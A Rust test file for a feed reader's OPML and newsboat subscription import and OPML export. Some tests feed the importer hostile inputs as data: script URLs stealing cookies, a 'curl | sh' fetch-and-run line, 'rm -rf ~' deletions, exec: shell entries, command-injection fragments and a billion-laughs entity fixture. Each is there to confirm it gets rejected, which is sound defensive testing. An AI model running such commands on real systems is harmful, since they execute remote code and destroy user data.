//! Importing subscription lists (OPML 1/2, newsboat `urls`) and exporting OPML.

use std::time::{Duration, Instant};
use tidings::config::FeedConfig;
use tidings::opml::{self, Imported};

fn fixture(name: &str) -> String {
    let path = format!("{}/tests/fixtures/opml/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn feed(url: &str, title: Option<&str>, tags: &[&str]) -> FeedConfig {
    FeedConfig {
        url: url.to_string(),
        title: title.map(str::to_string),
        tags: tags.iter().map(|t| t.to_string()).collect(),
        refresh_minutes: None,
        ..Default::default()
    }
}

fn import(text: &str) -> Imported {
    opml::import(text).unwrap_or_else(|e| panic!("import failed: {e}"))
}

/// The one skipped line that mentions `needle`.
fn skipped_about<'a>(imported: &'a Imported, needle: &str) -> &'a str {
    let hits: Vec<&String> = imported
        .skipped
        .iter()
        .filter(|s| s.contains(needle))
        .collect();
    assert_eq!(hits.len(), 1, "{needle:?} in {:#?}", imported.skipped);
    hits[0]
}

#[test]
fn opml_1_flat_list() {
    let got = import(&fixture("opml1.opml"));
    assert_eq!(
        got.feeds,
        vec![
            feed(
                "http://daily.example.com/rss.xml",
                Some("Example Daily"),
                &[]
            ),
            feed(
                "https://blog.example.org/feed?format=rss&lang=en",
                Some("Tom & Jerry's Blog"),
                &[]
            ),
            feed("file:///srv/feeds/local.xml", Some("Local file feed"), &[]),
            // A title that only repeats the URL says nothing: left unset.
            feed("https://untitled.example.net/atom", None, &[]),
        ]
    );
    assert!(got.skipped.is_empty(), "{:?}", got.skipped);
}

#[test]
fn opml_2_nested_folders_and_categories_become_tags() {
    let got = import(&fixture("opml2-nested.opml"));
    let evil_title = got
        .feeds
        .iter()
        .find(|f| f.url == "https://evil.example/feed")
        .and_then(|f| f.title.clone());
    assert_eq!(
        got.feeds,
        vec![
            // Folder titles (outermost first, `title` preferred over `text`), then categories;
            // the same URL again under "Tech" adds that folder's tag instead of a second feed.
            feed(
                "https://alpha.example/wire.xml",
                Some("Alpha Wire"),
                &["News", "World", "politics", "europe", "breaking", "Tech"]
            ),
            feed(
                "https://beta.example/times.rss",
                Some("Beta Times"),
                &["News", "World"]
            ),
            feed(
                "http://gamma.example/local.atom",
                Some("Gamma Local"),
                &["News", "local"]
            ),
            feed(
                "https://delta.example/dev.xml",
                Some("Delta Dev"),
                &["Tech"]
            ),
            feed(
                "https://evil.example/feed",
                evil_title.as_deref(),
                &["Tech"]
            ),
        ]
    );
    // What exactly remains of the escape sequences is the sanitizer's business (tested
    // there); here: the escapes and the bidi override are gone, the words stay.
    let evil_title = evil_title.unwrap_or_default();
    assert!(
        evil_title.starts_with("Evil") && evil_title.contains("red"),
        "{evil_title:?}"
    );
    assert!(
        !evil_title.contains(['\u{1b}', '\u{202e}']),
        "{evil_title:?}"
    );
    assert!(skipped_about(&got, "javascript:alert(document.cookie)").contains("Click me"));
    assert!(skipped_about(&got, "data:application/rss+xml").contains("not feeds"));
    assert!(
        skipped_about(&got, "ftp://files.example/feed.xml").contains("only http, https and file")
    );
    assert_eq!(got.skipped.len(), 3, "{:#?}", got.skipped);
}

#[test]
fn imported_text_carries_no_control_or_bidi_characters() {
    let got = import(&fixture("opml2-nested.opml"));
    for text in got
        .feeds
        .iter()
        .flat_map(|f| {
            [Some(&f.url), f.title.as_ref()]
                .into_iter()
                .flatten()
                .chain(&f.tags)
        })
        .chain(&got.skipped)
    {
        assert!(
            !text
                .chars()
                .any(|c| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)),
            "{text:?}"
        );
    }
}

#[test]
fn newsboat_urls_with_tags_titles_and_special_lines() {
    let got = import(&fixture("newsboat-urls"));
    assert_eq!(
        got.feeds,
        vec![
            feed(
                "https://one.example/feed.xml",
                Some("One Example"),
                &["news", "long tag", "more"]
            ),
            feed("http://two.example/rss", None, &["hidden", "tech"]),
            feed(
                "https://three.example/atom.xml",
                Some("Three \"quoted\" title"),
                &["third"]
            ),
            feed("file:///home/me/feeds/local.xml", None, &["local"]),
        ]
    );
    assert!(skipped_about(&got, "query:Unread Articles").contains("searches, not feeds"));
    assert!(
        skipped_about(&got, "exec:~/bin/make-feed.sh")
            .contains("exec: entries run commands; not imported")
    );
    assert!(skipped_about(&got, "filter:~/bin/fix.py").contains("run commands"));
    assert!(skipped_about(&got, "https://disabled.example/feed.xml").contains("commented out"));
    assert!(skipped_about(&got, "\"javascript:alert(1)\"").starts_with("line 11:"));
    skipped_about(&got, "data:text/xml");
    skipped_about(&got, "$(rm");
    skipped_about(&got, "`touch");
    skipped_about(&got, "|cat");
    // The prose comment on line 1 and blank lines are not entries.
    assert_eq!(got.skipped.len(), 9, "{:#?}", got.skipped);
}

#[test]
fn shell_looking_and_script_urls_never_become_feeds() {
    let text = "\
javascript:fetch('https://x.example')
JAVASCRIPT:alert(1)
vbscript:msgbox
data:text/html,<script>alert(1)</script>
$(curl https://x.example/p | sh)
;rm -rf ~
exec:rm -rf ~
EXEC:/bin/sh
file
https://
";
    let got = import(text);
    assert!(got.feeds.is_empty(), "{:#?}", got.feeds);
    assert_eq!(got.skipped.len(), 10, "{:#?}", got.skipped);
}

#[test]
fn billion_laughs_is_not_expanded() {
    let text = fixture("billion-laughs.opml");
    let started = Instant::now();
    let got = import(&text);
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "took {:?}",
        started.elapsed()
    );
    assert_eq!(got.feeds.len(), 1, "{:#?}", got.feeds);
    let f = &got.feeds[0];
    assert_eq!(f.url, "https://laughs.example/feed.xml");
    // The entity reference stays literal text, a few bytes long.
    assert_eq!(f.title.as_deref(), Some("&lol9;"));
    assert_eq!(f.tags, vec!["&lol9;"]);
    // An entity may not smuggle in a URL either.
    assert!(!got.feeds.iter().any(|f| f.url.contains("attacker")));
    skipped_about(&got, "&feedurl;");
}

#[test]
fn a_feed_document_is_not_mistaken_for_opml() {
    let e =
        opml::import("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel/></rss>").unwrap_err();
    assert!(e.to_string().contains("not an OPML file"), "{e}");
    assert!(e.to_string().contains("<rss>"), "{e}");
}

#[test]
fn malformed_opml_is_an_error_with_a_position() {
    let text = "<opml version=\"2.0\">\n<body>\n<outline text=\"a\" xmlUrl=\"https://a.example/\">\n</body>\n</opml>\n";
    let e = opml::import(text).unwrap_err().to_string();
    assert!(e.contains("not well-formed"), "{e}");
    assert!(e.contains("line 4"), "{e}");
}

#[test]
fn a_byte_order_mark_is_ignored() {
    let got = import(
        "\u{feff}<opml version=\"1.0\"><body><outline text=\"A\" xmlUrl=\"https://a.example/\"/></body></opml>",
    );
    assert_eq!(got.feeds, vec![feed("https://a.example/", Some("A"), &[])]);
}

#[test]
fn an_import_stops_at_ten_thousand_feeds() {
    let mut text = String::new();
    for i in 0..10_050 {
        text.push_str(&format!("https://many.example/{i}\n"));
    }
    let got = import(&text);
    assert_eq!(got.feeds.len(), opml::MAX_FEEDS);
    assert_eq!(got.feeds.last().unwrap().url, "https://many.example/9999");
    assert!(
        got.skipped
            .iter()
            .any(|s| s.contains("more than 10000 feeds")),
        "{:?}",
        got.skipped
    );
}

#[test]
fn skipped_lines_are_bounded() {
    let text = "javascript:x\n".repeat(5_000);
    let got = import(&text);
    assert!(got.skipped.len() <= 1_001, "{}", got.skipped.len());
    assert!(
        got.skipped
            .last()
            .unwrap()
            .contains("more entries were skipped")
    );
}

#[test]
fn export_is_opml_2_with_escaped_attributes() {
    let created = chrono::DateTime::from_timestamp(1_700_000_000, 0).unwrap();
    let out = opml::export_at(
        &[
            feed("tidings:demo", Some("demo"), &["tidings"]),
            feed(
                "https://a.example/?x=1&y=<2>",
                Some("A \"quoted\" & <b>"),
                &["news", "en"],
            ),
            feed("https://b.example/", None, &[]),
        ],
        created,
    );
    let want = "\
<?xml version=\"1.0\" encoding=\"UTF-8\"?>
<opml version=\"2.0\">
  <head>
    <title>tidings subscriptions</title>
    <dateCreated>Tue, 14 Nov 2023 22:13:20 +0000</dateCreated>
  </head>
  <body>
    <outline type=\"rss\" text=\"A &quot;quoted&quot; &amp; &lt;b&gt;\" title=\"A &quot;quoted&quot; &amp; &lt;b&gt;\" xmlUrl=\"https://a.example/?x=1&amp;y=&lt;2&gt;\" category=\"news,en\"/>
    <outline type=\"rss\" text=\"https://b.example/\" xmlUrl=\"https://b.example/\"/>
  </body>
</opml>
";
    assert_eq!(out, want);
}

#[test]
fn export_then_import_gives_the_same_feeds() {
    let feeds = vec![
        feed(
            "https://a.example/?x=1&y=<2>",
            Some("A \"quoted\" & <b> 'x'"),
            &["news", "en"],
        ),
        feed("https://b.example/", None, &[]),
        feed(
            "http://c.example/feed",
            Some("Ünïcödé ✓ 日本語"),
            &["ja", "long tag"],
        ),
        feed("file:///srv/x.xml", Some("Local"), &["local"]),
    ];
    let out = opml::export(&feeds);
    let back = import(&out);
    assert_eq!(back.feeds, feeds);
    assert!(back.skipped.is_empty(), "{:?}", back.skipped);
}

#[test]
fn import_errors_keep_their_kind() {
    use tidings::opml::ImportError;
    let e = opml::import("<rss version=\"2.0\"><channel/></rss>").unwrap_err();
    assert!(
        matches!(&e, ImportError::NotOpml { root } if root == "rss"),
        "{e:?}"
    );
    let e = opml::import("<opml version=\"2.0\">\n<body>\n</opml>\n").unwrap_err();
    assert!(matches!(e, ImportError::Xml { line: 3, .. }), "{e:?}");
    let e = opml::import("<?xml version=\"1.0\"?>\n<!-- nothing -->\n").unwrap_err();
    assert!(matches!(e, ImportError::NoOpml), "{e:?}");
    let e = opml::import("<opml><body><outline text=\"a\" text=\"b\"/></body></opml>").unwrap_err();
    assert!(matches!(e, ImportError::Outline { line: 1, .. }), "{e:?}");
}
